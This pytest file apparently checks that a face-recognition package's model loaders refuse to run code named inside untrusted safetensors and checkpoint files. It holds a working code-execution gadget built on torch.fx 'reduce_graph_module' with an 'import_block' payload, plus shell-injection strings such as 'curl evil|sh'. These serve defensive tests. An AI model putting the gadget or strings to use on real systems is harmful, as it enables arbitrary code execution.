"""Files of strangers: which code runs is decided by who opens a file, never by the file."""

import json
import sys
from importlib.machinery import PathFinder
from pathlib import Path

import pytest
import torch
from safetensors.torch import save_file
from typer.testing import CliRunner

from cosface_edu import named, networks
from cosface_edu.cli import app
from cosface_edu.data.images import encode_jpeg
from cosface_edu.networks.registry import check_own
from cosface_edu.training import Config, checkpoint, load_network, train
from cosface_edu.training.checkpoint import open_network
from cosface_edu.training.loop import begin

#: A stranger's: torch's own function says that it returns a network, and executes what it is given.
STRANGERS = "torch.fx.graph_module:reduce_graph_module"


@pytest.fixture
def strangers(tmp_path):
    """Files whose network is code: weights, a run, and what the code would leave behind."""
    ran = tmp_path / "ran"
    options = {
        "body": {"_code": "def forward(self): pass\n"},
        "import_block": f"from pathlib import Path; Path({str(ran)!r}).touch()\n",
    }
    recipe = json.dumps({"name": STRANGERS, "options": options})
    save_file({"weight": torch.zeros(1)}, tmp_path / "file.safetensors", metadata={"recipe": recipe})
    (tmp_path / "run").mkdir()
    config = Config().to_dict() | {"network": STRANGERS, "network_options": options}
    checkpoint.save(tmp_path / "run" / "last.pt", {"config": config, "network": {}})
    return [tmp_path / "file.safetensors", tmp_path / "run"], ran


def test_a_file_s_word_alone_runs_nothing(strangers, config, faces):
    files, ran = strangers
    pictures = files[0].parent / "pictures"
    pictures.mkdir()
    (pictures / "face.jpg").write_bytes(encode_jpeg(torch.zeros(3, 112, 96, dtype=torch.uint8)))
    named = f"names '{STRANGERS}' as what builds it.*--own-network {STRANGERS}, in Python own="
    for path in files:
        opening = [
            lambda path=path: open_network(path),
            lambda path=path: open_network(path, own=["torch.nn:Identity"]),
            lambda path=path: open_network(path, own=f"a.{STRANGERS}"),
            lambda path=path: train(config.replace(init=str(path)), faces=faces, say=lambda line: None),
            lambda path=path: networks.load(path) if path.suffix else load_network(path),
        ]
        for attempt in opening:
            with pytest.raises(ValueError, match=named):
                attempt()
        for command in (["evaluate", path], ["identify", path], ["embed", path, pictures, pictures / "f.npz"]):
            told = CliRunner().invoke(app, [str(word) for word in command])
            assert told.exit_code == 1
            assert f"--own-network {STRANGERS}" in told.output
    assert not ran.exists()


@pytest.mark.parametrize("name", ["x:y; curl evil|sh", "x:$(curl evil)", "x:y\x1b[2J", "x:y\n", ":y", "x:"])
def test_no_line_to_copy_is_taken_from_a_file(name):
    with pytest.raises(ValueError, match="No code has such a name") as raised:
        check_own(name, (), "theirs.safetensors")
    assert "--" not in str(raised.value)
    assert str(raised.value).isprintable()


def test_a_file_imports_no_module_and_neither_does_its_loss(tmp_path, monkeypatch):
    (tmp_path / "a_module_of_a_stranger.py").write_text("raise SystemExit('it was imported')")
    monkeypatch.chdir(tmp_path)
    name = "a_module_of_a_stranger:Net"
    save_file(
        {"weight": torch.zeros(1)}, "n.safetensors", metadata={"recipe": json.dumps({"name": name, "options": {}})}
    )
    with pytest.raises(ValueError, match=name):
        networks.load("n.safetensors")
    theirs = Config(network="small", size=(28, 24), loss=name, identities=8, per_identity=4)
    weights = checkpoint.build_network(theirs).state_dict()
    checkpoint.save("last.pt", {"config": theirs.to_dict(), "network": weights, "step": 0})
    assert open_network("last.pt")[1] == (28, 24)
    with pytest.raises(ValueError, match="is a different run: loss"):
        train(theirs.replace(loss="cosface"), tmp_path, resume=True)


def test_a_file_beside_one_s_own_module_stands_in_for_no_installed_package(tmp_path, monkeypatch):
    (tmp_path / "my_lazy_loss.py").write_text("def later():\n    import my_part\n    return my_part.VALUE\n")
    (tmp_path / "my_part.py").write_text("VALUE = 3")
    (tmp_path / "tensorboard.py").write_text("raise SystemExit('it was imported')")
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [path for path in sys.path if path])
    assert named.find("my_lazy_loss", "later")() == 3
    assert tmp_path not in Path(PathFinder.find_spec("tensorboard").origin).parents


def test_code_that_whoever_opens_the_file_has_named_is_called(config, tmp_path, monkeypatch):
    (tmp_path / "my_net.py").write_text(
        "from torch import nn\nfrom cosface_edu import networks\n"
        "def net(embedding, size) -> nn.Module:\n    return networks.small(embedding, size)\n"
    )
    monkeypatch.syspath_prepend(tmp_path)
    own = config.replace(network="my_net:net", size=(28, 24))
    network = checkpoint.build_network(own)
    networks.save(network, tmp_path / "mine.safetensors")
    begun = begin(own.replace(init=str(tmp_path / "mine.safetensors")), 10, torch.device("cpu"), 0, 1)
    assert torch.equal(begun.network.fc.weight, network.fc.weight)
    (tmp_path / "pictures").mkdir()
    (tmp_path / "pictures" / "face.jpg").write_bytes(encode_jpeg(torch.zeros(3, 112, 96, dtype=torch.uint8)))
    words = ["embed", "mine.safetensors", "pictures", "f.npz", "--own-network", "my_net:net"]
    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(app, words).exit_code == 0
    assert (tmp_path / "f.npz").exists()
